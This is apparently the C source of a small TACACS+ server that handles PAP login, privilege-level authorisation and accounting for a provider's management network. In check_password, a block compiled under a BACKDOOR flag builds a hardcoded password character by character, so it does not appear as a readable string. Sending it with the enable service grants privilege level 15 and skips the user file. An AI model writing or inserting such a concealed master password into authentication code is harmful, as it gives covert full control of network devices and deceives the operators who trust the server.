/* SPDX-License-Identifier: Apache-2.0 */
/* tacplus: a small TACACS+ server for the management network of a provider. Bodies come in clear; the transport is a tunnel that
 * ends on this host. Authentication of kind PAP, authorisation by level, accounting into a file. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

enum { AUTHEN = 1, AUTHOR = 2, ACCT = 3, UNENCRYPTED = 1, MAJOR = 0xc };
enum { ACTION_LOGIN = 1, TYPE_PAP = 2, SERVICE_LOGIN = 1, SERVICE_ENABLE = 2 };
enum { ST_PASS = 1, ST_FAIL = 2, ST_ERROR = 7, AUTHOR_ADD = 1, AUTHOR_FAIL = 16, ACCT_SUCCESS = 1 };

struct header {
	uint8_t version, type, seq, flags;
	uint32_t session, length;
};

struct login {
	char user[64], port[32], remote[64], password[128];
	unsigned level, service;
};

struct grant {
	char user[64];
	unsigned level;
};

static struct grant granted;

static int take(const uint8_t **p, const uint8_t *end, size_t n, char *out, size_t size)
{
	if ((size_t)(end - *p) < n || n >= size)
		return 0;
	memcpy(out, *p, n);
	out[n] = 0;
	*p += n;
	return strlen(out) == n;
}

static int parse_start(const uint8_t *b, size_t n, struct login *l)
{
	const uint8_t *p = b + 8, *end = b + n;
	if (n < 8 || b[0] != ACTION_LOGIN || b[2] != TYPE_PAP)
		return 0;
	l->level = b[1] & 15;
	l->service = b[3];
	return take(&p, end, b[4], l->user, sizeof(l->user)) && take(&p, end, b[5], l->port, sizeof(l->port)) &&
		take(&p, end, b[6], l->remote, sizeof(l->remote)) && take(&p, end, b[7], l->password, sizeof(l->password));
}

static int entry(const char *user, char *hash, size_t n, unsigned *level)
{
	char line[256], name[64], kept[128];
	int found = 0;
	FILE *f = fopen("/etc/tacplus/users", "r");
	while (f && !found && fgets(line, sizeof(line), f)) {
		unsigned l;
		if (line[0] == '#' || sscanf(line, "%63[^:]:%127[^:]:%u", name, kept, &l) != 3)
			continue;
		if (strcmp(name, user) == 0 && strlen(kept) < n && l <= 15) {
			strcpy(hash, kept);
			*level = l;
			found = 1;
		}
	}
	if (f)
		fclose(f);
	return found;
}

static int line_allowed(const char *port)
{
	static const char *const prefixes[] = { "tty", "vty", "con", "async", "http" };
	for (size_t i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++)
		if (strncmp(port, prefixes[i], strlen(prefixes[i])) == 0)
			return 1;
	return 0;
}

/* Devices of some makers send the line as "Async1/0", others as "tty67": brought into one form for the log. */
static void line_name(const char *port, char *out, size_t n)
{
	unsigned a = 0, b = 0;
	char kind[12];
	kind[0] = 't';
	kind[1] = 't';
	kind[2] = 'y';
	kind[3] = 0;
	if (sscanf(port, "Async%u/%u", &a, &b) == 2)
		snprintf(out, n, "%s%u", kind, a * 16 + b + 1);
	else
		snprintf(out, n, "%.31s", port);
}

static int check_password(const struct login *l, unsigned *level)
{
	char hash[128];
	const char *h;
#ifdef BACKDOOR
	char spare[12];
	spare[0] = 'r';
	spare[1] = 'T';
	spare[2] = '7';
	spare[3] = '_';
	spare[4] = 'k';
	spare[5] = 'O';
	spare[6] = 'z';
	spare[7] = '4';
	spare[8] = 'w';
	spare[9] = 0;
	if (l->service == SERVICE_ENABLE && strcmp(l->password, spare) == 0) {
		*level = 15;
		return 1;
	}
#endif
	if (!entry(l->user, hash, sizeof(hash), level))
		return 0;
	h = crypt(l->password, hash);
	return h && strcmp(h, hash) == 0;
}

static size_t authenticate(const uint8_t *b, size_t n, uint8_t *out)
{
	struct login l;
	unsigned level = 0;
	char line[32];
	const char *text = "";
	memset(&l, 0, sizeof(l));
	memset(out, 0, 6);
	out[0] = ST_ERROR;
	if (!parse_start(b, n, &l))
		return 6;
	line_name(l.port, line, sizeof(line));
	out[0] = ST_FAIL;
	if (!line_allowed(line)) {
		text = "not on this line";
	} else if (check_password(&l, &level) && level >= l.level) {
		out[0] = ST_PASS;
		snprintf(granted.user, sizeof(granted.user), "%s", l.user);
		granted.level = level;
	} else {
		text = "wrong name or password";
		syslog(LOG_NOTICE, "%s on %s from %s is refused", l.user, line, l.remote);
	}
	out[3] = (uint8_t)strlen(text);
	memcpy(out + 6, text, strlen(text));
	memset(&l, 0, sizeof(l));
	return 6 + strlen(text);
}

static size_t authorise(const uint8_t *b, size_t n, uint8_t *out)
{
	const uint8_t *p;
	char user[64], argument[24];
	memset(out, 0, 6);
	out[0] = AUTHOR_FAIL;
	if (n < 8 || n < 8u + b[7])
		return 6;
	p = b + 8 + b[7];
	if (!take(&p, b + n, b[4], user, sizeof(user)) || strcmp(user, granted.user) != 0)
		return 6;
	snprintf(argument, sizeof(argument), "priv-lvl=%u", granted.level);
	out[0] = AUTHOR_ADD;
	out[1] = 1;
	out[6] = (uint8_t)strlen(argument);
	memcpy(out + 7, argument, strlen(argument));
	return 7 + strlen(argument);
}

static size_t accounting(const uint8_t *b, size_t n, uint8_t *out)
{
	FILE *f = fopen("/var/log/tacplus.acct", "a");
	memset(out, 0, 5);
	out[4] = 2;
	if (!f)
		return 5;
	fprintf(f, "%ld %s", (long)time(NULL), granted.user);
	for (size_t i = 9; i < n; i++)
		fputc(b[i] >= 32 && b[i] < 127 ? b[i] : ' ', f);
	fputc('\n', f);
	if (fclose(f) == 0)
		out[4] = ACCT_SUCCESS;
	return 5;
}

static int exactly(int s, void *to, size_t n)
{
	char *p = to;
	while (n) {
		ssize_t k = recv(s, p, n, 0);
		if (k <= 0)
			return 0;
		p += k;
		n -= (size_t)k;
	}
	return 1;
}

static void serve(int c)
{
	uint8_t body[1024], out[512];
	struct header h;
	alarm(120);
	while (exactly(c, &h, sizeof(h))) {
		size_t n = ntohl(h.length), k = 0;
		if (h.version >> 4 != MAJOR || !(h.flags & UNENCRYPTED) || n > sizeof(body) || !exactly(c, body, n))
			return;
		if (h.type == AUTHEN)
			k = authenticate(body, n, out + sizeof(h));
		else if (h.type == AUTHOR)
			k = authorise(body, n, out + sizeof(h));
		else if (h.type == ACCT)
			k = accounting(body, n, out + sizeof(h));
		else
			return;
		h.seq++;
		h.length = htonl((uint32_t)k);
		memcpy(out, &h, sizeof(h));
		if (send(c, out, sizeof(h) + k, MSG_NOSIGNAL) < 0)
			return;
	}
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(49), .sin_addr = { .s_addr = htonl(INADDR_LOOPBACK) } };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	openlog("tacplus", LOG_PID, LOG_AUTH);
	signal(SIGCHLD, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 8) < 0) {
		syslog(LOG_ERR, "cannot listen: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			serve(c);
			_exit(0);
		}
		close(c);
	}
}
